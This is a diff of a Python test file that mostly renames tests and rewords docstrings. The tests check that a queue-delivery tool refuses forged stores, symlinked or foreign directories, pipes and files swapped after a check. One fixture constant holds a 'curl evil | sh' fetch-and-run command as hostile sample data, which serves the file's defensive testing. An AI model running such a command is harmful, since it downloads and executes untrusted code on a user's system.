@@ -1,4 +1,4 @@
-"""A store that somebody else wrote: a look does nothing, and a delivery touches no other file.
+"""A forged store: looking at it changes nothing, and a delivery touches no other file.
 
 Its rows name directories. What lies there may be links to files of whoever looks, or pipes.
 """
@@ -25,7 +25,7 @@ REFUSED = b"0000000000000017\n" + b'{"do": "curl evil | sh"}\n'
 
 @pytest.fixture
 def planted(tmp_path, monkeypatch):
-    """A directory that a store names as a run's, with files of the user's elsewhere."""
+    """A directory that a store names as a run's, with the user's files elsewhere."""
     folder = tmp_path / "shared" / "one"
     folder.mkdir(parents=True)
     (tmp_path / "home").mkdir()
@@ -37,7 +37,7 @@ def planted(tmp_path, monkeypatch):
 
 
 def named(tmp_path, directory):
-    """Have the store name a directory."""
+    """Let the store name a directory."""
     with Store(tmp_path / "shared") as store:
         store.register(
             "one", directory=str(directory), host=socket.gethostname(), pid=2**30, time=0.0
@@ -46,7 +46,7 @@ def named(tmp_path, directory):
 
 
 def left(tmp_path):
-    """All files but the store's own, with their contents, kinds and modes."""
+    """Return all files but the store's, with contents, kinds and modes."""
     files = [path for path in tmp_path.rglob("*") if not path.name.startswith("store.sqlite")]
     return {
         path: (
@@ -88,7 +88,7 @@ def refused_to_a_pipe(folder):
 
 
 def a_linked_directory(folder):
-    """The row names a link, in its last part or before, to a directory of the user's."""
+    """The row names a link, in its last part or before, to one of the user's directories."""
     (folder / "queue.jsonl").write_bytes(QUEUE)
     (folder.parents[1] / "linked").symlink_to(folder.parent)
     named(folder.parents[1], folder.parents[1] / "linked" / "one")
@@ -115,7 +115,9 @@ PLANTED += [a_foreign_queue, a_foreign_directory] if ROOT else []
 
 
 @pytest.mark.parametrize("plant", PLANTED)
-def test_what_a_store_names_is_neither_written_nor_waited_for(planted, tmp_path, plant, capsys):
+def test_files_that_a_store_names_are_neither_written_nor_waited_for(
+    planted, tmp_path, plant, capsys
+):
     plant(planted)
     before = left(tmp_path)
     for words in (["runs"], ["show", "one"], ["watch", "--once"], ["doctor", "--quick"]):
@@ -131,7 +133,7 @@ def test_what_a_store_names_is_neither_written_nor_waited_for(planted, tmp_path,
             deliver_queue(store, store.run("one").directory)
 
 
-def test_what_is_the_users_own_is_delivered(planted, capsys):
+def test_the_users_own_queue_is_delivered(planted, capsys):
     (planted / "queue.jsonl").write_bytes(QUEUE)
     assert main(["deliver"]) == 0
     assert capsys.readouterr().out == "one 1 line delivered\n"
@@ -141,7 +143,7 @@ def test_what_is_the_users_own_is_delivered(planted, capsys):
 # The rule itself
 
 
-def test_a_file_exchanged_after_it_was_looked_at_is_not_opened(tmp_path, monkeypatch):
+def test_a_file_replaced_after_its_check_is_not_opened(tmp_path, monkeypatch):
     file, secret = tmp_path / "file", tmp_path / "secret"
     file.write_text("own")
     secret.write_text("secret")
@@ -173,7 +175,7 @@ def test_a_folder_is_named_by_an_absolute_path_that_does_not_go_up(path):
 
 
 @pytest.mark.skipif(not ROOT, reason="only root can give files away")
-def test_no_folder_is_made_in_that_of_another_user(tmp_path):
+def test_no_folder_is_made_in_another_users_folder(tmp_path):
     (tmp_path / "evaluations").mkdir()
     os.chown(tmp_path / "evaluations", 4321, 4321)
     with pytest.raises(UnsafeFile, match="it belongs to user 4321"):
@@ -191,7 +193,7 @@ def test_no_folder_is_made_through_a_link(tmp_path):
 
 
 @pytest.mark.parametrize("to", ["sqlite:////elsewhere/store.sqlite", "postgresql://me@host/runs"])
-def test_what_waits_for_another_store_is_not_taken_by_one_that_names_its_directory(
+def test_a_queue_for_another_store_is_not_taken_by_one_that_names_its_directory(
     planted, tmp_path, capsys, to
 ):
     line = {**json.loads(LINE), "of": str(planted), "to": to}
@@ -200,7 +202,7 @@ def test_what_waits_for_another_store_is_not_taken_by_one_that_names_its_directo
     assert main(["deliver"]) == 1
     assert f"is for the store {to}: give that one" in capsys.readouterr().out
     assert (planted / "queue.jsonl").read_bytes() == before
-    assert main(["deliver", str(planted)]) == 0  # by the user's own word
+    assert main(["deliver", str(planted)]) == 0  # as the user asks
     with Store(tmp_path / "shared") as store:
         assert len(store.records("one")) == 1
 
